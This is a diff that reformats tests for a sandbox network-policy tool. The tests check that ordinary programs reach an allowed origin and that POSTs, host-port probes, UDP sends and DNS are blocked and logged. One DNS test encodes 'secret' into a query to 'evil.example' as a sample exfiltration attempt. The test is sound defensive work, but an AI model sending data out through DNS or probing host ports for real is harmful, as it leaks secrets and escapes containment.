@@ -27,7 +27,12 @@ ${extra}    binaries: [{ path: /usr/** }]
 
 /** Runs a shell line inside; `--add-host` and the origin's authority are always given, so only the policy stands between. */
 async function inside(place: Workplace, api: TestOrigin, policy: string, script: string, args: readonly string[] = []) {
-  const options = ['--policy', place.file('policy.yaml', policy), '--upstream-ca', place.file('ca.pem', api.certificatePem)];
+  const options = [
+    '--policy',
+    place.file('policy.yaml', policy),
+    '--upstream-ca',
+    place.file('ca.pem', api.certificatePem),
+  ];
   return await openshell(
     ['run', ...options, '--add-host', `${HOST}=127.0.0.1:${api.port}`, ...args, '--', 'sh', '-c', script],
     { home: place.home, cwd: place.workdir },
@@ -40,10 +45,14 @@ describe('ordinary programs reach an allowed origin with no proxy settings', () 
   before(async () => {
     const repository = join(place.directory, 'repository');
     const git = (...args: string[]) =>
-      execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.test', '-c', 'init.defaultBranch=main', ...args], {
-        cwd: repository,
-        env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: place.directory, GIT_CONFIG_NOSYSTEM: '1' },
-      });
+      execFileSync(
+        'git',
+        ['-c', 'user.name=t', '-c', 'user.email=t@example.test', '-c', 'init.defaultBranch=main', ...args],
+        {
+          cwd: repository,
+          env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: place.directory, GIT_CONFIG_NOSYSTEM: '1' },
+        },
+      );
     execFileSync('mkdir', ['-p', repository]);
     git('init', '-q');
     git('commit', '-q', '--allow-empty', '-m', 'first');
@@ -60,7 +69,10 @@ describe('ordinary programs reach an allowed origin with no proxy settings', () 
   for (const [name, script] of [
     ['curl', `curl -sS https://${HOST}/a`],
     ['wget', `wget -qO- https://${HOST}/a`],
-    ['python3 urllib', `/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen("https://${HOST}/a").read().decode(), end="")'`],
+    [
+      'python3 urllib',
+      `/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen("https://${HOST}/a").read().decode(), end="")'`,
+    ],
   ] as const) {
     test(name, async () => {
       const result = await inside(place, api, policyFor(HOST, 'read-only'), script);
@@ -88,7 +100,12 @@ describe('ordinary programs reach an allowed origin with no proxy settings', () 
   }
 
   test('git clone over https', async () => {
-    const result = await inside(place, api, policyFor(HOST, 'read-only'), `git clone -q https://${HOST}/repository.git c && git -C c log --format=%s`);
+    const result = await inside(
+      place,
+      api,
+      policyFor(HOST, 'read-only'),
+      `git clone -q https://${HOST}/repository.git c && git -C c log --format=%s`,
+    );
     assert.equal(result.stdout, 'first\n', result.stderr);
   });
 });
@@ -113,7 +130,10 @@ describe('what the policy does not open', () => {
     const denied = await inside(place, api, policyFor(HOST, 'read-only'), script);
     const body = JSON.parse(denied.stdout);
     assert.equal(body.error, 'policy_denied');
-    assert.deepEqual([body.host, body.port, body.method, body.path, body.binary], [HOST, 443, 'POST', '/a', '/usr/bin/curl']);
+    assert.deepEqual(
+      [body.host, body.port, body.method, body.path, body.binary],
+      [HOST, 443, 'POST', '/a', '/usr/bin/curl'],
+    );
     assert.ok(body.reason && body.rule && body.allow_with, denied.stdout);
     assert.deepEqual(api.seen, []);
     const allowed = await inside(place, api, policyFor(HOST, 'full'), script);
@@ -151,17 +171,29 @@ describe('what the policy does not open', () => {
 
   test('the host’s own ports: on loopback and on every address it has', async () => {
     const own = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
-    const addresses = ['127.0.0.1', '[::1]', ...own.filter(({ family, internal }) => family === 'IPv4' && !internal).map(({ address }) => address)];
+    const addresses = [
+      '127.0.0.1',
+      '[::1]',
+      ...own.filter(({ family, internal }) => family === 'IPv4' && !internal).map(({ address }) => address),
+    ];
     const control = await fetch(`http://127.0.0.1:${hostPort}/`);
     assert.equal(await control.text(), 'from the host\n');
     for (const address of addresses) {
-      const { stdout } = await inside(place, api, policyFor(HOST, 'read-only'), `curl -s -m 10 http://${address}:${hostPort}/`);
+      const { stdout } = await inside(
+        place,
+        api,
+        policyFor(HOST, 'read-only'),
+        `curl -s -m 10 http://${address}:${hostPort}/`,
+      );
       assert.doesNotMatch(stdout, /from the host/, address);
     }
   });
 
   test('a listed name that resolves to the host: refused unless the operator says so', async () => {
-    const policy = policyFor('localhost.example.test', 'read-only').replaceAll('443, protocol', `${hostPort}, protocol`);
+    const policy = policyFor('localhost.example.test', 'read-only').replaceAll(
+      '443, protocol',
+      `${hostPort}, protocol`,
+    );
     const script = `curl -s -m 10 http://localhost.example.test:${hostPort}/`;
     const mapped = await inside(place, api, policy, script, ['--add-host', 'localhost.example.test=127.0.0.1']);
     assert.equal(mapped.stdout, 'from the host\n', 'the operator’s word');
@@ -180,10 +212,19 @@ describe('what the policy does not open', () => {
     execFileSync('/usr/bin/python3', ['-c', send.replace('203.0.113.9', '127.0.0.1').replace('4433', String(port))]);
     await arrived;
     socket.close();
-    const result = await inside(place, api, policyFor(HOST, 'read-only'), `/usr/bin/python3 -c '${send}' 2>&1 | tail -1`, ['--name', 'udp']);
+    const result = await inside(
+      place,
+      api,
+      policyFor(HOST, 'read-only'),
+      `/usr/bin/python3 -c '${send}' 2>&1 | tail -1`,
+      ['--name', 'udp'],
+    );
     assert.match(result.stdout, /PermissionError|Operation not permitted|refused/);
     const seen = (await records(join(place.home, 'audit', 'udp'))).map(({ record }) => JSON.stringify(record));
-    assert.ok(seen.some((line) => line.includes('203.0.113.9') && line.includes('4433')), 'destination on record');
+    assert.ok(
+      seen.some((line) => line.includes('203.0.113.9') && line.includes('4433')),
+      'destination on record',
+    );
   });
 
   test('DNS carries nothing out: TXT has no answer, names get addresses of our pool', async () => {
@@ -202,9 +243,17 @@ print(ask("c2VjcmV0.evil.example", 16), ask("c2VjcmV0.evil.example", 1), socket.
   });
 
   test('every denial is on record with process, host and rule', async () => {
-    await inside(place, api, policyFor(HOST, 'read-only'), status('https://nowhere.example.test/'), ['--name', 'recorded']);
+    await inside(place, api, policyFor(HOST, 'read-only'), status('https://nowhere.example.test/'), [
+      '--name',
+      'recorded',
+    ]);
     const logged = await records(join(place.home, 'audit', 'recorded'));
-    const denied = logged.map(({ record }) => JSON.stringify(record)).filter((line) => line.includes('nowhere.example.test') && line.includes('"Blocked"'));
-    assert.ok(denied.some((line) => line.includes('/usr/bin/curl') && line.includes('firewall_rule')), denied.join('\n'));
+    const denied = logged
+      .map(({ record }) => JSON.stringify(record))
+      .filter((line) => line.includes('nowhere.example.test') && line.includes('"Blocked"'));
+    assert.ok(
+      denied.some((line) => line.includes('/usr/bin/curl') && line.includes('firewall_rule')),
+      denied.join('\n'),
+    );
   });
 });
